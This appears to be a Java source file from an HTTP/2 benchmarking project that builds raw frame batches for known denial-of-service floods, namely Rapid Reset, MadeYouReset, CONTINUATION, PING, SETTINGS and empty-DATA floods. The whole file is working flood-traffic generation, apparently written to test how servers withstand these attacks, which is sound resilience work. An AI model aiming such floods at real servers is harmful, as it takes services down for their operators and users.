package dev.anyhost.benchmarks;

import io.netty.buffer.ByteBuf;
import java.nio.charset.StandardCharsets;

/** HTTP/2 frames that are cheap to send and not free to take (RFC 9113 section 10.5). */
enum Flood {

    /** Requests that are taken back at once (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void frame(ByteBuf out, int batch, int number) {
            int stream = stream(batch * FRAMES + number);
            write(out, HEADERS, END_HEADERS | END_STREAM, stream, GET);
            write(out, RST_STREAM, 0, stream, CANCEL);
        }
    },

    /** Requests that the server is made to reset (CVE-2025-8671). */
    MADE_YOU_RESET {
        @Override
        void frame(ByteBuf out, int batch, int number) {
            int stream = stream(batch * FRAMES + number);
            write(out, HEADERS, END_HEADERS, stream, POST);
            write(out, WINDOW_UPDATE, 0, stream, NOTHING);
        }
    },

    /** A header section that doesn't end (CVE-2024-27316 and its likes). */
    CONTINUATION {
        @Override
        void frame(ByteBuf out, int batch, int number) {
            boolean first = batch == 0 && number == 0;
            write(out, first ? HEADERS : CONTINUATION_FRAME, 0, 1, first ? GET : FIELD);
        }
    },

    PING {
        @Override
        void frame(ByteBuf out, int batch, int number) {
            write(out, PING_FRAME, 0, 0, new byte[8]);
        }
    },

    SETTINGS {
        @Override
        void frame(ByteBuf out, int batch, int number) {
            write(out, SETTINGS_FRAME, 0, 0, new byte[0]);
        }
    },

    /** DATA without data, each batch on a stream of its own that takes the place of the former one. */
    EMPTY_DATA {
        @Override
        void frame(ByteBuf out, int batch, int number) {
            if (number == 0 && batch > 0) {
                write(out, RST_STREAM, 0, stream(batch - 1), CANCEL);
            }
            if (number == 0) {
                write(out, HEADERS, END_HEADERS, stream(batch), POST);
            }
            write(out, DATA, 0, stream(batch), new byte[0]);
        }
    };

    /** Of a batch; who cuts within a thousand of them never sees a second batch. */
    static final int FRAMES = 1_000;

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] GET = section(0x82, "/");
    /** Its origin waits for the body. */
    private static final byte[] POST = section(0x83, Origin.WEB_SOCKET);
    /** {@code a: b}, a literal that is never indexed (RFC 7541 section 6.2.3). */
    private static final byte[] FIELD = {0x10, 1, 'a', 1, 'b'};

    private static final byte[] NOTHING = new byte[4];
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS_FRAME = 4;
    private static final int PING_FRAME = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION_FRAME = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;

    /** As people call it. */
    String label() {
        return switch (this) {
            case RAPID_RESET -> "rapid reset";
            case MADE_YOU_RESET -> "MadeYouReset";
            case CONTINUATION, PING, SETTINGS -> name();
            case EMPTY_DATA -> "empty DATA";
        };
    }

    /** What a connection begins with. */
    static void preface(ByteBuf out) {
        out.writeBytes(PREFACE);
        write(out, SETTINGS_FRAME, 0, 0, new byte[0]);
    }

    /**
     * The frames that a connection sends together.
     *
     * @param batch how many it has sent before
     */
    void batch(ByteBuf out, int batch) {
        for (int number = 0; number < FRAMES; number++) {
            frame(out, batch, number);
        }
    }

    abstract void frame(ByteBuf out, int batch, int number);

    private static int stream(int request) {
        return 2 * request + 1;
    }

    private static byte[] section(int method, String path) {
        int length = path.length();
        byte[] authority = Field.HOSTNAME.getBytes(StandardCharsets.US_ASCII);
        byte[] section = new byte[6 + length + authority.length];
        section[0] = (byte) method;
        section[1] = (byte) 0x87; // :scheme https, by the static table (RFC 7541 appendix A)
        section[2] = 4; // :path
        section[3] = (byte) length;
        System.arraycopy(path.getBytes(StandardCharsets.US_ASCII), 0, section, 4, length);
        section[4 + length] = 1; // :authority
        section[5 + length] = (byte) authority.length;
        System.arraycopy(authority, 0, section, 6 + length, authority.length);
        return section;
    }

    private static void write(ByteBuf out, int type, int flags, int stream, byte[] payload) {
        out.writeMedium(payload.length)
                .writeByte(type)
                .writeByte(flags)
                .writeInt(stream)
                .writeBytes(payload);
    }
}
